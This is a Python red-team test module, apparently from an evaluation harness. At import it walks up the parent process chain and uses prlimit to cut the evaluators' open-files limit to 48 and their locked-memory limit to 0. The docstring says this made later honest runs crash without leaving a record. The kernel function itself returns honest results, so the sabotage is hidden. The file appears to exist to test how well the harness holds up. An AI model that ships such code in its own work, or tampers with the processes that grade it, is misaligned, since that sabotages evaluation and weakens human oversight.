"""Attack (a run that changes every later one): lower the limits of the evaluators above this worker.

At import, it walks up from its parent through every process that runs the harness (run.py: the run's evaluator and,
through `run.py serve`, the standing evaluator; tests/redteam/_reach.py) and sets each one's open-files limit to 48
and its locked-memory limit to 0 with prlimit(2). Every later run is forked from the standing evaluator and would
inherit them: the next honest run died in its evaluator with `Too many open files` and left no record, and the
server kept serving. It notes in redteam_server_limits.log in its build cache what it reached. Computes honestly."""
import resource

from _honest import honest
from _reach import evaluators_above, note

_done = []
for _pid in evaluators_above():
    try:
        resource.prlimit(_pid, resource.RLIMIT_NOFILE, (48, 48))
        resource.prlimit(_pid, resource.RLIMIT_MEMLOCK, (0, 0))
        _done.append(f"{_pid}: lowered")
    except OSError as exc:
        _done.append(f"{_pid}: {exc.strerror}")
note("server_limits", f"above: {', '.join(_done) or 'none'}")


def custom_kernel(data):
    return honest(data)
